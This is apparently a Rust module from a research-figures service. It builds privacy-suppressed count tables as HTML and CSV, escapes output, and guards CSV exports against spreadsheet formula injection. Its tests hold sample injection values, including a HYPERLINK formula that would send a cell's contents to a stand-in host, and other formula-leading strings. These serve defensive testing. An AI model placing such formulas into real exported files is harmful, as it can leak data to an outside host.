//! The research figures (集計表) from the stored records, as HTML and CSV,
//! and drawn as bar charts ([`charts`]).
//!
//! Every count from 1 to 4 is hidden (秘匿), in both forms, so that no
//! person can be singled out from a small cell; and so are the cells
//! chosen by [`suppression`] so that no hidden count can be worked out by
//! subtracting the shown ones from a total. Every hidden cell shows the
//! same mark, [`HIDDEN`]. Tables have no totals row.
//!
//! The counts are sums over records, kept by the storage beside the
//! records and changed with them ([`tally`]), so that no page view reads
//! every record; the page, the CSV files and the charts are made once per
//! change of the data and shared by every viewer ([`cache`]).

use std::fmt::Write;

pub mod cache;
pub mod charts;
mod suppression;
pub mod tally;
pub use suppression::{HIDDEN, hidden_cells};
pub use tally::Tally;

use tsunagi_core::reference::ReferenceDb;
use tsunagi_core::research::ProgressRecord;

/// Counts below this (and above zero) are suppressed.
pub const SUPPRESS_BELOW: usize = 5;

/// A count standing alone (the case count at the top of the page): the
/// number, or [`HIDDEN`] from 1 to 4.
pub fn cell(n: usize) -> String {
    if suppression::is_small(n) {
        HIDDEN.to_owned()
    } else {
        n.to_string()
    }
}

/// A table cell as shown: the number, or [`HIDDEN`].
fn shown(n: usize, hidden: bool) -> String {
    if hidden {
        HIDDEN.to_owned()
    } else {
        n.to_string()
    }
}

impl Table {
    /// For each row and count column, whether the cell is hidden.
    pub fn hidden(&self) -> Vec<Vec<bool>> {
        let counts: Vec<Vec<usize>> = self.rows.iter().map(|(_, c)| c.clone()).collect();
        hidden_cells(&counts)
    }
}

/// One figures table: row labels and counts per column.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Table {
    /// The file name stem (`stages`, `outcomes`, `programmes`).
    pub slug: &'static str,
    /// The title, Japanese first.
    pub title: &'static str,
    /// A line on how the counts are made.
    pub note: &'static str,
    /// The headings of the label columns.
    pub label_headings: Vec<String>,
    /// The headings of the count columns.
    pub count_headings: Vec<String>,
    /// Each row: its labels and its counts.
    pub rows: Vec<(Vec<String>, Vec<usize>)>,
}

/// Every table, in page order.
pub fn tables(records: &[ProgressRecord], reference: &ReferenceDb) -> Vec<Table> {
    Tally::of(records).tables(reference)
}

/// 支援段階の到達 (cases reaching each stage, by month).
pub fn stages(records: &[ProgressRecord]) -> Table {
    Tally::of(records).stages()
}

/// 疾患群別の就労結果 (employment outcomes by disease group). A person in
/// several groups is counted in each; a record with no group, under
/// [`UNLISTED_GROUP`](tsunagi_core::research::UNLISTED_GROUP).
pub fn outcomes(records: &[ProgressRecord], reference: &ReferenceDb) -> Table {
    Tally::of(records).outcomes(reference)
}

/// プログラム別・年度別 (seed 002): targets, participants and achievers by
/// programme kind (a code: no name typed in an office reaches a row label)
/// and fiscal year, with the latest review outcome in the year. Achievers
/// are counted by the goal type of the kind
/// ([`ProgrammeRecord::achieved_in`](tsunagi_core::research::ProgrammeRecord::achieved_in)),
/// the rule the office's own figures use. An enrolment is counted in each
/// year from its selection to its last dated step, unless it ended (a
/// review other than 継続) before the year began.
pub fn programmes(records: &[ProgressRecord]) -> Table {
    Tally::of(records).programmes()
}

/// Whether a spreadsheet program could read a cell starting with `c` as a
/// formula (CSV injection): `=`, `+`, `-`, `@`, a tab or a carriage return,
/// and their full-width forms, which a Japanese spreadsheet may take the
/// same way.
fn starts_a_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠'
    )
}

/// One CSV field (RFC 4180). Text a spreadsheet would take as a formula
/// gets a leading `'`, so that it shows as the text it is and never runs;
/// such a field, and any with a comma, quote or line break, is quoted.
fn csv_field(s: &str) -> String {
    let formula = s.chars().next().is_some_and(starts_a_formula);
    let text = if formula {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    if formula || text.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", text.replace('"', "\"\""))
    } else {
        text
    }
}

/// The table as CSV (UTF-8 with a byte-order mark, so that spreadsheet
/// programs read the Japanese right), suppressed like the page.
pub fn to_csv(table: &Table) -> String {
    let mut out = String::from("\u{feff}");
    let headings: Vec<String> = table
        .label_headings
        .iter()
        .chain(&table.count_headings)
        .map(|h| csv_field(h))
        .collect();
    out.push_str(&headings.join(","));
    out.push_str("\r\n");
    for ((labels, counts), hidden) in table.rows.iter().zip(table.hidden()) {
        let fields: Vec<String> = labels
            .iter()
            .map(|l| csv_field(l))
            .chain(counts.iter().zip(hidden).map(|(n, h)| shown(*n, h)))
            .collect();
        out.push_str(&fields.join(","));
        out.push_str("\r\n");
    }
    out
}

/// Escapes text for HTML.
pub fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// The look of the centre's pages (the figures, the login form): the
/// bundled Japanese font, colours and spacing.
pub(crate) const STYLE: &str = "@font-face{font-family:'Tsunagi BIZ UDGothic';font-weight:400;src:url(/fonts/BIZUDGothic-Regular.ttf) format('truetype')}\
@font-face{font-family:'Tsunagi BIZ UDGothic';font-weight:700;src:url(/fonts/BIZUDGothic-Bold.ttf) format('truetype')}\
body{font-family:'Tsunagi BIZ UDGothic','BIZ UDGothic','Noto Sans CJK JP',sans-serif;margin:2rem auto;max-width:70rem;color:#1d2733;padding:0 1rem;line-height:1.6}\
h1{font-size:1.6rem;border-bottom:3px solid #2a6f97;padding-bottom:.3rem}\
h2{font-size:1.2rem;margin-top:2.2rem;color:#1f4e6b}\
table{border-collapse:collapse;margin:.5rem 0;font-size:.95rem}\
th,td{border:1px solid #c9d3dd;padding:.35rem .7rem}th{background:#eef3f7;text-align:left;font-weight:600}\
td.n{text-align:right;font-variant-numeric:tabular-nums}td.s{color:#8a5a00;background:#fff7e6}\
p.note{color:#4a5866;font-size:.9rem;margin:.2rem 0}a{color:#2a6f97}.meta{color:#4a5866}\
.en{color:#4a5866;font-size:.85rem}form.account{float:right;margin-top:.4rem;text-align:right}\
label{font-weight:700}input{font:inherit;padding:.35rem .5rem;border:1px solid #8a9aab;border-radius:4px;width:20rem;max-width:100%}\
select,code{font-family:inherit}select{font-size:inherit;padding:.3rem .4rem}\
button{font:inherit;padding:.35rem 1rem;border:1px solid #1f4e6b;border-radius:4px;background:#2a6f97;color:#fff;cursor:pointer}\
img.chart{display:block;max-width:100%;height:auto;margin:.6rem 0}\
form.account button{background:#fff;color:#1f4e6b}p.error{color:#9b1c1c;background:#fdecec;border-left:4px solid #9b1c1c;padding:.4rem .7rem}";

/// The figures page: every table, with links to their CSV.
pub fn to_html(tables: &[Table], cases: usize, batches: usize, agencies: usize) -> String {
    to_html_for(tables, cases, batches, agencies, "")
}

/// The figures page with `account_bar` (HTML: who is logged in, the logout
/// button) at its top.
pub fn to_html_for(
    tables: &[Table],
    cases: usize,
    batches: usize,
    agencies: usize,
    account_bar: &str,
) -> String {
    let (head, rest) = page_parts(tables, cases, batches, agencies);
    format!("{head}{account_bar}{rest}")
}

/// The figures page in two parts, the account bar to go between them:
/// what every viewer of the same figures is shown alike, made once per
/// change of the data ([`cache`]).
pub fn page_parts(
    tables: &[Table],
    cases: usize,
    batches: usize,
    agencies: usize,
) -> (String, String) {
    let head = "<!DOCTYPE html><html lang=\"ja\"><head><meta charset=\"utf-8\">\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\
         <title>研究集計 — つなぎ研究センター</title><link rel=\"stylesheet\" href=\"/style.css\"></head><body>"
        .to_owned();
    let mut out = String::new();
    let _ = write!(
        out,
        "<h1>研究集計 <small>Research figures</small></h1>\
         <p class=\"meta\">登録機関 {agencies} ・ 受領バッチ {batches} ・ ケース {cases}<br>\
         「{HIDDEN}」は秘匿：1〜4件のセルと、それを合計からの引き算で割り出せないよう併せて隠したセルです。 \
         “{HIDDEN}” is hidden: a count from 1 to 4, or a cell hidden with one so that it cannot be worked out by subtraction.</p>",
        cases = cell(cases),
    );
    for t in tables {
        let _ = write!(
            out,
            "<h2 id=\"{slug}\">{title}</h2><p class=\"note\">{note} \
             <a href=\"/figures/{slug}.csv\">CSV</a> <a href=\"/figures/{slug}.svg\">SVG</a></p>",
            slug = t.slug,
            title = html_escape(t.title),
            note = html_escape(t.note),
        );
        // The chart above the table it draws; the table stays, as the
        // accessible form. An image, not inline SVG, for the page's
        // Content-Security-Policy.
        if !t.rows.is_empty() {
            let (width, height) = charts::size(t);
            let _ = write!(
                out,
                "<img class=\"chart\" src=\"/figures/{slug}.svg\" width=\"{width}\" height=\"{height}\" alt=\"{alt}\">",
                slug = t.slug,
                alt = html_escape(&charts::alt(t)),
            );
        }
        out.push_str("<table><thead><tr>");
        for h in t.label_headings.iter().chain(&t.count_headings) {
            let _ = write!(out, "<th>{}</th>", html_escape(h));
        }
        out.push_str("</tr></thead><tbody>");
        if t.rows.is_empty() {
            let _ = write!(
                out,
                "<tr><td colspan=\"{}\">まだデータがありません。 No data yet.</td></tr>",
                t.label_headings.len() + t.count_headings.len()
            );
        }
        for ((labels, counts), hidden) in t.rows.iter().zip(t.hidden()) {
            out.push_str("<tr>");
            for l in labels {
                let _ = write!(out, "<td>{}</td>", html_escape(l));
            }
            for (n, h) in counts.iter().zip(hidden) {
                let class = if h { "n s" } else { "n" };
                let _ = write!(
                    out,
                    "<td class=\"{class}\">{}</td>",
                    html_escape(&shown(*n, h))
                );
            }
            out.push_str("</tr>");
        }
        out.push_str("</tbody></table>");
    }
    out.push_str("</body></html>\n");
    (head, out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn counts_from_one_to_four_are_suppressed_and_others_shown() {
        assert_eq!(cell(0), "0");
        for n in 1..5 {
            assert_eq!(cell(n), HIDDEN);
        }
        assert_eq!(cell(5), "5");
        let table = Table {
            slug: "t",
            title: "t",
            note: "",
            label_headings: vec!["a".into()],
            count_headings: vec!["b".into(), "c".into()],
            rows: vec![
                (vec!["x,y".into()], vec![3, 12]),
                (vec!["z".into()], vec![4, 20]),
            ],
        };
        let csv = to_csv(&table);
        assert!(csv.contains("\"x,y\",x,12\r\nz,x,20"), "{csv}");
        let html = to_html(&[table], 15, 1, 1);
        assert!(
            html.contains("<td class=\"n s\">x</td>") && html.contains(">12</td>"),
            "{html}"
        );
    }

    #[test]
    fn programme_rows_are_labelled_by_kind_whatever_the_batch_calls_them() {
        use tsunagi_core::research::ProgrammeRecord;
        let enrolment = |kind: &str| -> ProgrammeRecord {
            serde_json::from_value(serde_json::json!({
                "kind": kind, "selected": "2024-05", "consented": "2024-05",
                "plan_agreed": null, "reviews": [], "barriers": [],
            }))
            .expect("parses")
        };
        // An old record naming its programme, and one naming a formula.
        let records: Vec<ProgrammeRecord> = [
            "employment",
            "竹原市精神障害者就労支援プログラム",
            "=HYPERLINK(\"http://x\")",
        ]
        .into_iter()
        .map(enrolment)
        .collect();
        let mut record: ProgressRecord = serde_json::from_value(serde_json::json!({
            "pseudonym": "0".repeat(64), "as_of": "2026-12", "age_band": null,
            "sex": "unstated", "disease_groups": [], "certificates": [], "stages": [],
            "consultations": [], "follow_ups": [], "programmes": [],
            "employment": null, "outcome": "ongoing",
        }))
        .expect("parses");
        record.programmes = records;
        let table = programmes(&[record]);
        let labels: Vec<&str> = table.rows.iter().map(|(l, _)| l[0].as_str()).collect();
        assert_eq!(labels, ["就労支援 Employment support", "その他 Other"]);
        assert_eq!(table.rows[0].1[0], 2, "both employment enrolments counted");
    }

    #[test]
    fn a_programme_name_that_looks_like_a_formula_reaches_the_csv_as_text() {
        let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"見る\")";
        let table = Table {
            slug: "programmes",
            title: "t",
            note: "",
            label_headings: vec!["プログラム".into(), "年度".into()],
            count_headings: vec!["n".into()],
            rows: vec![
                (vec![evil.into(), "2026年度".into()], vec![7]),
                (vec!["+1".into(), "2026年度".into()], vec![8]),
                (vec!["-2".into(), "2026年度".into()], vec![9]),
                (vec!["@SUM(A1)".into(), "2026年度".into()], vec![10]),
                (vec!["\tTAB".into(), "2026年度".into()], vec![11]),
                (vec!["\rCR".into(), "2026年度".into()], vec![12]),
                (vec!["＝全角".into(), "2026年度".into()], vec![13]),
            ],
        };
        let csv = to_csv(&table);
        let lines: Vec<&str> = csv.split("\r\n").collect();
        assert_eq!(
            lines[1],
            "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"見る\"\")\",2026年度,7"
        );
        assert_eq!(lines[2], "\"'+1\",2026年度,8");
        assert_eq!(lines[3], "\"'-2\",2026年度,9");
        assert_eq!(lines[4], "\"'@SUM(A1)\",2026年度,10");
        assert_eq!(lines[5], "\"'\tTAB\",2026年度,11");
        assert_eq!(lines[6], "\"'\rCR\",2026年度,12");
        assert_eq!(lines[7], "\"'＝全角\",2026年度,13");
        // No field of the file starts with a formula character once its
        // quotes are taken off.
        for line in &lines[1..] {
            let first = line.trim_start_matches('"').chars().next();
            assert!(!first.is_some_and(starts_a_formula), "{line}");
        }
        // Plain names are left as they are.
        assert_eq!(csv_field("就労準備プログラム"), "就労準備プログラム");
    }
}
